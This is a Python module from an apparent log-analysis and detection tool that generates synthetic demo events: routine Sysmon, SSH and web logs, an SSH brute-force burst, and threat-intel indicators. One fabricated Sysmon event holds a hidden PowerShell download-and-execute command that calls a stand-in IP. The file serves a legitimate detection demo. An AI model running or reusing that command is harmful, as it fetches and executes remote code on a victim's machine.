"""Demo data: a small, believable day of events from Windows, Linux and a web server.

Generated on the fly (nothing copied from elsewhere), timestamps in the last 24 hours, so
``vigil demo`` shows a living store: a brute-force against sshd, a suspicious PowerShell
download on a workstation, and ordinary traffic around them.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import orjson

from vigil.app import Vigil
from vigil.core.timeutil import utcnow
from vigil.demo_work import DemoUser, seed_work
from vigil.detect import alerts, catalog
from vigil.detect.hunt import hunt_store
from vigil.ingest.batches import ParseOptions
from vigil.ingest.files import ingest_inputs
from vigil.ingest.inputs import expand
from vigil.intel import TLP
from vigil.intel import service as intel
from vigil.intel.live import IntelMatcher
from vigil.intel.normalize import make_input
from vigil.people import tokens
from vigil.people.tokens import Scope

DEMO_C2 = "cdn-update.evil-c2.ru"
"""A made-up command-and-control name that the demo's threat-intel feed lists."""
HOSTS = ["WKS-ANNA.corp.example", "WKS-BEN.corp.example", "SRV-FILE01.corp.example"]
USERS = ["anna", "ben", "carla", "deploy"]
IMAGES = [r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe",
          r"C:\Program Files\Mozilla Firefox\firefox.exe", r"C:\Windows\System32\notepad.exe"]


def _sysmon(ts: datetime, rng: random.Random, image: str, command: str) -> bytes:
    host = rng.choice(HOSTS)
    return orjson.dumps({
        "@timestamp": ts.isoformat().replace("+00:00", "Z"), "Hostname": host,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "CommandLine": command,
        "ParentImage": r"C:\Windows\explorer.exe", "User": f"CORP\\{rng.choice(USERS)}",
        "ProcessId": str(rng.randint(1000, 9000)), "IntegrityLevel": "Medium",
    })


def _windows(start: datetime, rng: random.Random) -> list[bytes]:
    lines = [_sysmon(start + timedelta(seconds=rng.randint(0, 86000)), rng, image,
                     f'"{image}"') for image in rng.choices(IMAGES, k=600)]
    attack = start + timedelta(hours=20)
    lines.append(_sysmon(attack, rng, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                         "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                         ".DownloadString('http://203.0.113.50/a.ps1')\""))
    lines.append(orjson.dumps({  # the implant looks up its command server (a demo indicator)
        "@timestamp": (attack + timedelta(seconds=40)).isoformat().replace("+00:00", "Z"),
        "Hostname": HOSTS[0], "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 22,
        "SourceName": "Microsoft-Windows-Sysmon", "QueryName": DEMO_C2,
        "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "QueryStatus": "0", "QueryResults": "::ffff:45.9.148.3;", "User": "CORP\\anna"}))
    return lines


def _auth(start: datetime, rng: random.Random) -> list[bytes]:
    lines = []
    for _ in range(400):
        ts = start + timedelta(seconds=rng.randint(0, 86000))
        user = rng.choice(USERS)
        lines.append(f"{ts:%b %d %H:%M:%S} bastion sshd[{rng.randint(900, 9999)}]: Accepted "
                     f"publickey for {user} from 198.51.100.{rng.randint(2, 250)} port "
                     f"{rng.randint(30000, 60000)} ssh2".encode())
    attack = start + timedelta(hours=19)
    for second in range(300):
        ts = attack + timedelta(seconds=second)
        lines.append(f"{ts:%b %d %H:%M:%S} bastion sshd[4242]: Failed password for invalid user "
                     f"admin{second % 7} from 203.0.113.50 port {40000 + second} ssh2".encode())
    return sorted(lines)


def _web(start: datetime, rng: random.Random) -> list[bytes]:
    paths = ["/", "/login", "/static/app.js", "/api/items?page=2", "/health"]
    lines = []
    for _ in range(700):
        ts = start + timedelta(seconds=rng.randint(0, 86000))
        path = rng.choice(paths)
        lines.append(f'192.0.2.{rng.randint(2, 250)} - - [{ts:%d/%b/%Y:%H:%M:%S +0000}] '
                     f'"GET {path} HTTP/1.1" {rng.choice([200, 200, 200, 304, 404])} '
                     f'{rng.randint(200, 9000)} "-" "Mozilla/5.0 (X11; Linux x86_64)"'.encode())
    return lines


def write_demo_files(folder: Path, now: datetime | None = None, seed: int = 7) -> list[Path]:
    """Write the demo inputs to ``folder``; returns their paths."""
    rng = random.Random(seed)
    start = (now or utcnow()) - timedelta(hours=24)
    folder.mkdir(parents=True, exist_ok=True)
    files = {"windows-sysmon.json": _windows(start, rng), "auth.log": _auth(start, rng),
             "access.log": _web(start, rng)}
    paths = []
    for name, lines in files.items():
        path = folder / name
        path.write_bytes(b"\n".join(lines) + b"\n")
        paths.append(path)
    return paths


DEMO_RULES = Path(__file__).parent / "demo_rules"


@dataclass(frozen=True, slots=True)
class DemoResult:
    stored: int
    alerts: int
    token: str
    users: list[DemoUser]
    case_id: int | None


def _demo_intel(vigil: Vigil) -> IntelMatcher:
    """A small threat-intel feed (one of its names shows up in the demo events), and the
    matcher that turns its hits into alerts while the events are stored."""
    feed = [
        make_input("domain", "evil-c2.ru", "demo-feed", confidence=85, tlp=TLP.AMBER,
                   name="Demo loader C2", malware=("DemoLoader",), attack=("T1071.004",),
                   labels=("c2",)),
        make_input("ipv4", "45.9.148.3", "demo-feed", confidence=70, tlp=TLP.GREEN, labels=("c2",)),
        make_input("url", "http://cdn-update.evil-c2.ru/stage2.bin", "demo-feed", confidence=75),
        make_input("sha256", "9f2b5c1e0d4a7b3c6e8f1a2d4c6b8e0f1a3c5e7d9b1f3a5c7e9d1b3f5a7c9e1d", "demo-feed",
                   confidence=60, name="DemoLoader stage 2"),
    ]
    intel.ingest(vigil.db, feed, vigil.settings.intel, actor="system:demo", source="demo-feed")
    return IntelMatcher(vigil.db, vigil.store, vigil.settings.intel,
                        suppress_seconds=vigil.settings.detect.suppress_seconds, grouping=vigil.grouping)


def load_demo(vigil: Vigil) -> DemoResult:
    """Store the demo events, import the demo rules and hunt them over the events, then seed
    the demo users and a case mid-investigation (see :mod:`vigil.demo_work`)."""
    paths = write_demo_files(vigil.settings.data_dir / "demo")
    matcher = _demo_intel(vigil)
    summary = ingest_inputs(expand([str(p) for p in paths]), vigil.store, vigil.db,
                            ParseOptions(), workers=1, on_written=matcher)
    matcher.close()
    catalog.import_rules(vigil.db, [DEMO_RULES])
    result = hunt_store(vigil.store, catalog.enabled_compiled(vigil.db))
    created = alerts.record(vigil.db, result.detections, vigil.settings.detect.suppress_seconds,
                           vigil.grouping)
    token = tokens.create(vigil.db, "demo", Scope.INGEST)
    users, case_id = seed_work(vigil)
    return DemoResult(summary.stored, created, token, users, case_id)
